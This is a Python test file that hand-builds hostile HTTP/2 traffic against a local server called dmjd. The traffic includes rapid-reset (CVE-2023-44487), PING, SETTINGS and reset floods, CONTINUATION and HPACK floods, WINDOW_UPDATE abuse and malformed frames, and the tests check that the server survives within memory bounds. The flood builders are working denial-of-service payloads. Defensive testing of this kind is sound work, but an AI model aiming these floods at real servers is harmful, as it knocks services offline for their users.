#!/usr/bin/python3
"""dmjd against hostile HTTP/2 clients: invalid frames, SETTINGS/PING/reset floods, rapid reset
(CVE-2023-44487), huge HPACK headers, CONTINUATION floods, stream floods and WINDOW_UPDATE
abuse, sent as hand-built frames over raw cleartext sockets (prior knowledge).

Each attack runs on its own connection while a probe connection keeps asking a normal question;
after each the server must still be up, answer 200, and have grown by no more than a bound.
The attacker never reads (or reads as little as it can) so that whatever the server queues for
it stays queued: that is how h2o 2.2.5 (before 2.2.6's fixes for CVE-2019-9512/9514/9515) could
be made to buffer without limit. CPU seconds and resident memory of dmjd per attack are printed
(figures, not assertions). Frames and HPACK literals are built by hand (standard library only).

Findings on h2o 2.2.5 (figures printed by case_floods): rapid reset is not limited by the
100-stream concurrency bound (every reset stream was served: 30,000 list pages, ~1 s of CPU
on one worker per connection): dmjd now shuts such a connection down (handler.c,
case_rapid_reset_cut). PING/SETTINGS/reset floods stay bounded (h2o stops reading while its
answers are unsent); unknown frame types each print a line on stderr (not defended: h2o
writes it itself)."""

import os
import http.client
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import need  # noqa: E402
from dmjtest import (LIST, Server, cpu_seconds, get,  # noqa: E402
                     make_cert, metrics, run_cases, sanitized, tls_context, vm_kb)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIO = 0x1, 0x1, 0x4, 0x8, 0x20

SANITIZED = sanitized()
# Growth of dmjd's resident memory any one attack may cause (MiB); sanitizer builds keep
# freed memory in quarantine, so they get more room.
RSS_BOUND_MB = 96 if SANITIZED else 48
SCALE = 4 if SANITIZED else 1  # fewer frames per flood under ASan (it is ~4x slower)


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & 0x7fffffff) + payload


def hpack_str(s):
    """A literal string without Huffman coding (RFC 7541 5.2), any length."""
    return hpack_int(len(s), 7, 0) + s


def hpack_int(v, prefix, first):
    top = (1 << prefix) - 1
    if v < top:
        return bytes([first | v])
    out = bytearray([first | top])
    v -= top
    while v >= 128:
        out.append((v & 127) | 128)
        v >>= 7
    out.append(v)
    return bytes(out)


def literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def request_block(path, key=None, extra=()):
    # :method GET (static 2), :scheme http (6), then :path and :authority as literals.
    block = b"\x82\x86" + b"\x04" + hpack_str(path.encode()) + b"\x01" + hpack_str(b"t")
    if key is not None:
        block += literal(b"authorization", b"Bearer " + key.encode())
    for name, value in extra:
        block += literal(name, value)
    return block


def settings_payload(pairs):
    return b"".join(struct.pack(">HI", k, v) for k, v in pairs)


class Attacker:
    """A raw HTTP/2 connection with a small receive buffer that reads only when told."""

    def __init__(self, port, rcvbuf=4096):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.connect(("127.0.0.1", port))
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.closed = False

    def send(self, data, deadline):
        """Sends what the server will take before `deadline`; returns the bytes sent.
        A server that stops reading (or closes) is a fine answer to a flood."""
        self.sock.setblocking(False)
        sent = 0
        view = memoryview(data)
        while sent < len(data) and time.time() < deadline and not self.closed:
            try:
                n = self.sock.send(view[sent:sent + 65536])
                sent += n
            except BlockingIOError:
                time.sleep(0.002)
            except OSError:
                self.closed = True
        return sent

    def drain_until_closed(self, seconds):
        """Reads and drops everything for `seconds`; True when the server closed."""
        self.sock.setblocking(True)
        self.sock.settimeout(0.2)
        end = time.time() + seconds
        while time.time() < end:
            try:
                if not self.sock.recv(1 << 20):
                    return True
            except socket.timeout:
                continue
            except OSError:
                return True
        return False

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def probe(srv, key):
    """A normal HTTP/1.1 request on a fresh connection; returns its status."""
    c = srv.conn(timeout=10)
    try:
        res, _ = get(c, LIST + "?limit=2", key)
        return res.status
    finally:
        c.close()


def h2_probe(port, key):
    """A well-behaved HTTP/2 request on a fresh connection: the status code, or None."""
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    try:
        s.sendall(PREFACE + frame(SETTINGS, 0, 0) +
                  frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(LIST + "?limit=1",
                                                                            key)))
        buf = b""
        end = time.time() + 10
        while time.time() < end:
            chunk = s.recv(65536)
            if not chunk:
                return None
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                ftype, stream = buf[3], int.from_bytes(buf[5:9], "big") & 0x7fffffff
                payload = buf[9:9 + length]
                buf = buf[9 + length:]
                if ftype == HEADERS and stream == 1:
                    # The first byte of an answer's block: an indexed :status (8 = 200...).
                    first = payload[0]
                    table = {0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404,
                             0x8e: 500}
                    if first in table:
                        return table[first]
                    return -1
                if ftype == GOAWAY:
                    return None
        return None
    finally:
        s.close()


# ---- attacks: each builds its bytes and says how long it may take ---------------------------

def rapid_reset(key):
    """HEADERS then RST_STREAM(CANCEL), thousands of streams on one connection."""
    n = 30000 // SCALE
    out = bytearray()
    for i in range(n):
        sid = 1 + 2 * i
        # A query of its own per stream: no answer comes from the response cache.
        block = request_block(LIST + "?limit=100&n=%d" % i, key)
        out += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
        out += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
    return bytes(out)


def reset_flood(key):
    """DATA on a stream the client already half-closed: each frame is a stream error that the
    server answers with a RST_STREAM it must queue (CVE-2019-9514)."""
    out = frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block("/_health"))
    return out + frame(DATA, 0, 1, b"") * (300000 // SCALE)


def ping_flood(key):
    """PINGs, each owed an ACK, while never reading (CVE-2019-9512)."""
    return frame(PING, 0, 0, b"12345678") * (400000 // SCALE)


def settings_flood(key):
    """SETTINGS frames, each owed an ACK (CVE-2019-9515)."""
    one = frame(SETTINGS, 0, 0, settings_payload([(4, 65535), (3, 100)]))
    return one * (300000 // SCALE)


def empty_frames_flood(key):
    """Zero-length DATA-less noise: empty CONTINUATION-free HEADERS are not allowed, but
    PRIORITY frames on idle streams cost the server state (CVE-2019-9513 style)."""
    out = bytearray()
    for i in range(100000 // SCALE):
        sid = 1 + 2 * (i % 60000)
        out += frame(PRIORITY, 0, sid, struct.pack(">IB", (sid + 2) & 0x7fffffff, 15))
    return bytes(out)


def huge_hpack(key):
    """One header 1 MB long, split in CONTINUATION frames of 16 KB."""
    block = request_block(LIST, key, [(b"x-big", b"a" * (1 << 20))])
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = frame(HEADERS, END_STREAM, 1, chunks[0])
    for i, c in enumerate(chunks[1:]):
        out += frame(CONTINUATION, END_HEADERS if i == len(chunks) - 2 else 0, 1, c)
    return out


def continuation_flood(key):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end (CVE-2024-27316
    class): a server that buffers them all grows without bound."""
    head = frame(HEADERS, END_STREAM, 1, request_block(LIST, key))
    one = frame(CONTINUATION, 0, 1, literal(b"x-pad", b"b" * 16000))
    return head + one * (4000 // SCALE)  # 64 MB offered


def header_count_flood(key):
    """Many small headers in one block (each an allocation): 100k of them."""
    extra = [(b"x-h", b"1")] * (100000 // SCALE)
    block = request_block(LIST, key, extra)
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = frame(HEADERS, END_STREAM, 1, chunks[0])
    for i, c in enumerate(chunks[1:]):
        out += frame(CONTINUATION, END_HEADERS if i == len(chunks) - 2 else 0, 1, c)
    return out


def hpack_table_abuse(key):
    """Indexed inserts into the dynamic table (4 KB max) again and again, and size updates."""
    out = bytearray()
    for i in range(5000 // SCALE):
        sid = 1 + 2 * i
        block = b"\x3f\xe1\x1f" + b"\x82\x86" + b"\x04" + hpack_str(b"/_health") + \
            b"\x40" + hpack_str(b"x-ins") + hpack_str(b"v" * 3000) + b"\x01" + hpack_str(b"t")
        out += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
    return bytes(out)


def stream_flood(key):
    """HEADERS without END_STREAM (each stream waits for a body that never comes), far past
    the advertised limit of concurrent streams."""
    block = request_block(LIST, key)
    return b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) for i in range(5000 // SCALE))


def window_update_abuse(key):
    """Zero increments, increments that overflow 2^31-1, on the connection and on streams,
    then a window closed to zero with requests left waiting."""
    out = bytearray(frame(SETTINGS, 0, 0, settings_payload([(4, 0)])))
    block = request_block(LIST + "?limit=100", key)
    for i in range(200):
        out += frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block)
    for i in range(20000 // SCALE):
        out += frame(WINDOW_UPDATE, 0, 1 + 2 * (i % 200), struct.pack(">I", 1))
    out += frame(WINDOW_UPDATE, 0, 3, struct.pack(">I", 0x7fffffff))
    out += frame(WINDOW_UPDATE, 0, 3, struct.pack(">I", 0x7fffffff))  # stream overflow
    out += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))
    out += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff))  # connection overflow
    return bytes(out)


def invalid_frames(key):
    """A string of protocol errors, each on a fresh connection (returned as a list)."""
    return [
        b"\x00" * 64,  # garbage right after the preface's SETTINGS
        frame(DATA, 0, 0, b"x"),  # DATA on stream 0
        frame(HEADERS, END_HEADERS, 2, request_block("/_health")),  # even (server) stream id
        frame(SETTINGS, 0, 1),  # SETTINGS on a stream
        frame(SETTINGS, 0, 0, b"\x00\x04\xff\xff\xff\xff"),  # window over 2^31-1
        frame(SETTINGS, 0, 0, b"\x00\x05\x00\x00\x00\x01"),  # max frame size below 16384
        frame(SETTINGS, ACK, 0, b"\x00" * 6),  # ACK with a payload
        frame(PING, 0, 0, b"short"),  # PING not 8 bytes
        frame(PING, 0, 3, b"12345678"),  # PING on a stream
        frame(RST_STREAM, 0, 0, b"\x00\x00\x00\x08"),  # RST_STREAM on stream 0
        frame(RST_STREAM, 0, 7, b"\x00\x00\x00\x08"),  # RST_STREAM on an idle stream
        frame(GOAWAY, 0, 0, b"\x00"),  # truncated GOAWAY
        frame(PUSH_PROMISE, END_HEADERS, 1, b"\x00\x00\x00\x02"),  # clients may not push
        frame(CONTINUATION, END_HEADERS, 1, b"\x82"),  # CONTINUATION with no HEADERS
        frame(HEADERS, END_HEADERS | PADDED, 1, b"\xff\x82"),  # padding past the end
        frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\xff\xff\xff\xff\xff\x0f"),  # bad HPACK
        frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xbf"),  # index past the tables
        frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x82\x86\x04\x81\xff"),  # bad Huffman
        frame(HEADERS, END_HEADERS | END_STREAM | PRIO, 1,
              b"\x00\x00\x00\x01\x10" + request_block("/_health")),  # depends on itself
        frame(HEADERS, END_STREAM, 1, request_block("/_health")) +
        frame(HEADERS, END_HEADERS, 3, b""),  # another frame between HEADERS/CONTINUATION
        frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block("/_health")) +
        frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block("/_health")),  # reused id
        frame(HEADERS, END_HEADERS, 1, request_block("/_health")) +
        frame(DATA, END_STREAM, 1, b"x" * 70000),  # DATA over the flow-control window
        b"\x00\x40\x01\x00\x00\x00\x00\x00\x01" + b"x" * 16385,  # frame over max size
        frame(WINDOW_UPDATE, 0, 0, b"\x00\x00"),  # WINDOW_UPDATE not 4 bytes
        frame(0xfa, 0xff, 5, b"unknown type: must be ignored"),
        frame(HEADERS, END_HEADERS | END_STREAM, 1,
              b"\x82\x86" + b"\x04" + hpack_str(b"/api/\x00/x") + b"\x01" + hpack_str(b"t")),
        frame(HEADERS, END_HEADERS | END_STREAM, 1,
              b"\x82\x86" + b"\x01" + hpack_str(b"t")),  # no :path
        frame(HEADERS, END_HEADERS | END_STREAM, 1,
              request_block("/_health", None, [(b"connection", b"keep-alive")])),
        frame(HEADERS, END_HEADERS | END_STREAM, 1,
              request_block("/_health", None, [(b"content-length", b"5")])),  # no body comes
    ]


FLOODS = [rapid_reset, reset_flood, ping_flood, settings_flood, empty_frames_flood, huge_hpack,
          continuation_flood, header_count_flood, hpack_table_abuse, stream_flood,
          window_update_abuse]


def settle(pid, limit):
    """Waits until dmjd has used no CPU for 0.3 s (it has worked through what it was sent),
    or `limit` seconds; returns the highest resident size seen (KiB)."""
    peak = vm_kb(pid, "VmRSS")
    end = time.time() + limit
    last = cpu_seconds(pid)
    while time.time() < end:
        time.sleep(0.3)
        peak = max(peak, vm_kb(pid, "VmRSS"))
        now = cpu_seconds(pid)
        if now == last:
            break
        last = now
    return peak


def run_flood(srv, key, attack, figures):
    pid = srv.proc.pid
    data = attack(key)
    rss0 = vm_kb(pid, "VmRSS")
    cpu0 = cpu_seconds(pid)
    started = time.time()
    a = Attacker(srv.port)
    result = {}
    sender = threading.Thread(target=lambda: result.update(sent=a.send(data, started + 15)))
    sender.start()
    # While the attack is being sent and worked through, others are served.
    worst, probes = 0.0, 0
    while sender.is_alive() or probes == 0:
        t0 = time.time()
        status = probe(srv, key)
        worst = max(worst, time.time() - t0)
        probes += 1
        assert status == 200, "%s: probe answered %s during the attack" % (attack.__name__,
                                                                            status)
    sender.join()
    peak = settle(pid, 15)
    took = time.time() - started
    cpu1 = cpu_seconds(pid)
    h2 = h2_probe(srv.port, key)
    assert h2 == 200, "%s: HTTP/2 probe answered %s after the attack" % (attack.__name__, h2)
    closed = a.closed or a.drain_until_closed(0.5)
    a.close()
    assert srv.proc.poll() is None, "%s: dmjd exited (%s)" % (attack.__name__,
                                                              srv.proc.returncode)
    grown = (peak - rss0) / 1024.0
    figures.append("%-19s sent %5.1f/%5.1f MB %4.1fs, cpu %5.2fs, rss %+5.1f MiB, %4d probes "
                   "(slowest %3.0f ms)%s"
                   % (attack.__name__, result.get("sent", 0) / 1e6, len(data) / 1e6, took,
                      cpu1 - cpu0, grown, probes, worst * 1000,
                      ", closed by dmjd" if closed else ""))
    assert grown < RSS_BOUND_MB, "%s: dmjd grew by %.1f MiB" % (attack.__name__, grown)


def case_floods(store, tmp):
    figures = []
    failures = []
    with Server(store.dir, "--threads", "2") as srv:
        quiet0 = cpu_seconds(srv.proc.pid)
        time.sleep(1.0)
        figures.append("quiet baseline: cpu %.2fs/s, rss %.1f MiB" % (
            cpu_seconds(srv.proc.pid) - quiet0, vm_kb(srv.proc.pid, "VmRSS") / 1024.0))
        for attack in FLOODS:
            try:
                run_flood(srv, store.read_key, attack, figures)
            except AssertionError as e:
                failures.append(str(e))
            if srv.proc.poll() is not None:
                break
        figures.append("peak rss (VmHWM) %.1f MiB" % (vm_kb(srv.proc.pid, "VmHWM") / 1024.0))
        for line in figures:
            print("  " + line)
        assert not failures, failures
        assert probe(srv, store.read_key) == 200


def stop_checked(srv):
    """Stops dmjd; returns its stderr lines other than h2o's "skipping frame" notes."""
    code, err = srv.stop()
    assert code == 0, (code, err[-2000:])
    assert "Sanitizer" not in err and "runtime error" not in err, err[-4000:]
    return [line for line in err.splitlines() if not line.startswith("skipping frame (type:")]


def case_invalid_frames(store, tmp):
    srv = Server(store.dir, "--threads", "2")
    try:
        for i, data in enumerate(invalid_frames(store.read_key)):
            a = Attacker(srv.port, rcvbuf=65536)
            a.send(data, time.time() + 5)
            a.drain_until_closed(0.3)
            a.close()
            assert srv.proc.poll() is None, "invalid frame case %d: dmjd exited" % i
            status = h2_probe(srv.port, store.read_key)
            assert status == 200, "after invalid frame case %d: %s" % (i, status)
        assert probe(srv, store.read_key) == 200
        other = stop_checked(srv)
        assert not other, other
    finally:
        srv.kill()


def case_unknown_frame_noise(store, tmp):
    """Finding: h2o 2.2.5 prints "skipping frame (type:N)" on stderr for every frame of an
    unknown type (which HTTP/2 says to ignore): a client turns 9 bytes into a 25-byte log
    line. Bounded here to what a pipe holds; the server must keep serving."""
    srv = Server(store.dir, "--threads", "2")
    try:
        n = 1500
        a = Attacker(srv.port, rcvbuf=65536)
        a.send(frame(0xfa, 0, 0) * n, time.time() + 5)
        assert h2_probe(srv.port, store.read_key) == 200
        a.drain_until_closed(0.2)
        a.close()
        assert probe(srv, store.read_key) == 200
        code, err = srv.stop()
        assert code == 0, (code, err[-2000:])
        lines = err.count("skipping frame (type:250)")
        print("  %d unknown frames (%d bytes) -> %d stderr lines (%d bytes)"
              % (n, 9 * n, lines, len(err)))
        # One line per frame: every frame reached h2o's parser and was ignored (fewer means
        # the flood did not land; more, that a frame costs more than one line).
        assert lines == n, (lines, n)
    finally:
        srv.kill()


def case_rapid_reset_cut(store, tmp):
    """Regression for the rapid-reset finding: dmjd shuts such a connection down after about
    UNSENT_STREAMS (128) thrown-away answers and does no work for the streams h2o had already
    read, while clients that read their answers, with 100 streams at once, are never cut."""
    with Server(store.dir, "--threads", "2") as srv:
        a = Attacker(srv.port)
        a.send(rapid_reset(store.read_key), time.time() + 15)
        assert a.closed or a.drain_until_closed(5), "the rapid-reset connection is still open"
        a.close()
        settle(srv.proc.pid, 15)  # h2o works through what it had read before the cut
        c = srv.conn()
        m = metrics(c)
        c.close()
        served = m.get(("dmj_http_requests_total", '{endpoint="list",status="200"}'), 0)
        cut = m.get(("dmj_http_requests_total", '{endpoint="cut",status="429"}'), 0)
        print("  rapid reset: %d of %d streams served before the cut, %d answered without work"
              % (served, 30000 // SCALE, cut))
        assert 0 < served < 1000, served
        if not need.tool("h2load", "nghttp2-client"):
            return
        base = "http://127.0.0.1:%d%s" % (srv.port, LIST)
        for extra in ([], ["-w", "12", "-W", "16"]):  # and with small stream windows
            res = subprocess.run(["h2load", "-c", "2", "-m", "100", "-n", "2000", *extra, "-H",
                                  "Authorization: Bearer " + store.read_key, base + "?limit=100",
                                  base + "?limit=1000"], stdout=subprocess.PIPE,
                                 stderr=subprocess.STDOUT, text=True, timeout=300)
            assert "status codes: 2000 2xx" in res.stdout, res.stdout[-1500:]
        c = srv.conn()
        m2 = metrics(c)
        c.close()
        cut2 = m2.get(("dmj_http_requests_total", '{endpoint="cut",status="429"}'), 0)
        assert cut2 == cut, "honest clients were cut: %d -> %d" % (cut, cut2)


def case_rapid_reset_tls(store, tmp):
    """The same cut over TLS with ALPN h2 (the production set-up): h2o counts bytes written
    above the TLS layer, so the rule holds there too."""
    pair = make_cert(tmp)
    if pair is None:
        print("  (no openssl binary: TLS case not run)")
        return
    cert, keyfile = pair
    with Server(store.dir, "--threads", "2", "--tls-cert", cert, "--tls-key", keyfile) as srv:
        raw = socket.create_connection(("127.0.0.1", srv.port), timeout=15)
        s = tls_context(cert, ["h2"]).wrap_socket(raw, server_hostname="localhost")
        assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
        closed = False
        try:
            s.sendall(PREFACE + frame(SETTINGS, 0, 0) + rapid_reset(store.read_key))
            s.settimeout(5)
            while s.recv(1 << 20):
                pass
            closed = True
        except (OSError, ssl.SSLError):
            closed = True
        s.close()
        assert closed, "the rapid-reset TLS connection is still open"
        settle(srv.proc.pid, 15)
        hc = http.client.HTTPSConnection("localhost", srv.port, timeout=30,
                                         context=tls_context(cert, ["http/1.1"]))
        m = metrics(hc)
        res, _ = get(hc, LIST + "?limit=1", store.read_key)
        hc.close()
        assert res.status == 200
        served = m.get(("dmj_http_requests_total", '{endpoint="list",status="200"}'), 0)
        print("  rapid reset over TLS: %d of %d streams served before the cut"
              % (served, 30000 // SCALE))
        assert 0 < served < 1000, served


CASES = [case_invalid_frames, case_unknown_frame_noise, case_rapid_reset_cut,
         case_rapid_reset_tls, case_floods]


def main():
    return run_cases(CASES, "dmj-test-h2-", jobs=1500, teams=2)


if __name__ == "__main__":
    sys.exit(main())
